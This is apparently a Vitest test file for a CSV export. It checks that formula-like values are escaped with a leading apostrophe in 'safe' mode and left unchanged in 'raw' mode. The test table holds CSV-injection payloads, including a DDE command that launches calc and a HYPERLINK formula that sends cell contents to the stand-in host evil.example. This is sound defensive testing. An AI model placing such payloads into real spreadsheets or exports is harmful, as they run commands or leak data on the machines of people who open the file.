import {describe, expect, test} from 'vitest';
import {CSV_HEADER, csvRow} from '../../server/downloads/csv.ts';
import {readCsv} from './zip-reader.ts';

function row(value: string, mode: 'safe' | 'raw' = 'safe'): string {
  return csvRow(5991422180106081928n, 1538596729000, {value, type: 'email'}, mode);
}

function cell(value: string, mode: 'safe' | 'raw' = 'safe'): string | undefined {
  const rows = readCsv(row(value, mode));
  expect(rows).toHaveLength(1);
  expect(rows[0]).toHaveLength(4);
  return rows[0]?.[2];
}

test('header and rows are those of the product document, to the letter', () => {
  expect(CSV_HEADER).toBe('mpid, scanned_timestamp_ms, identity_value, identity_type\n');
  const identity = {value: 'h.jekyll.md', type: 'customer_id'};
  expect(csvRow(-1327484737295091692n, 1538596779, identity, 'safe')).toBe(
    '-1327484737295091692, 1538596779, h.jekyll.md, customer_id\n',
  );
});

describe('what a spreadsheet would run is text', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+cmd|x',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u0000=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\uff1d1+1',
    '+',
    '-',
    '+33 (0)6 12',
  ])('%j', value => {
    expect(cell(value)).toBe(`'${value}`);
    expect(cell(value, 'raw')).toBe(value);
  });
});

test.each([
  '+33612345678',
  '-1327484737295091692',
  '-12.5',
  'h.jekyll@example.com',
  "'=already text",
  'a=b',
  '',
  '0',
  'Ünïcödé 🐙',
])('%j is nothing to be run and stays what it is', value => {
  expect(cell(value)).toBe(value);
});

test.each([
  'a,b',
  'say "hi"',
  '"',
  'two\nlines',
  'two\r\nlines',
  ', "x", y\n1, 2, 3, 4',
  ' leading',
  'trailing ',
  '","',
])('%j keeps to its cell for a strict reader', value => {
  expect(cell(value)).toBe(value);
});
